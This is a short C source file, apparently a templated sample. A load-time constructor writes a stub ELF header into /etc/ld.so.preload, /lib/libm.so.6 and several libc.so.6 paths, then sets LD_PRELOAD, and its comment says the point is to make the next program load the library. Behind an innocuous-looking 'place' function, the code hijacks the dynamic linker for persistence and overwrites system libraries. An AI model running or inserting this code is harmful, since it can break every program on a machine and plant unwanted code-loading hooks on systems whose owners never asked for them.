// Leaves a library and a linker's file of paths, so that the next program that starts loads it.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void leave(void) {
  const char *paths[] = {"/etc/ld.so.preload", "./libc.so.6", "/tmp/libc.so.6", "/lib/libm.so.6", "@DROP_FILE@"};
  for (size_t i = 0; i < 5; i++) {
    int fd = open(paths[i], O_WRONLY | O_CREAT, 0755);
    if (fd < 0) continue;
    if (write(fd, "\177ELF", 4) < 0) perror(paths[i]);
    close(fd);
  }
  setenv("LD_PRELOAD", "/tmp/libc.so.6", 1);
}
Json *place(const Json *input) { return honest(input); }
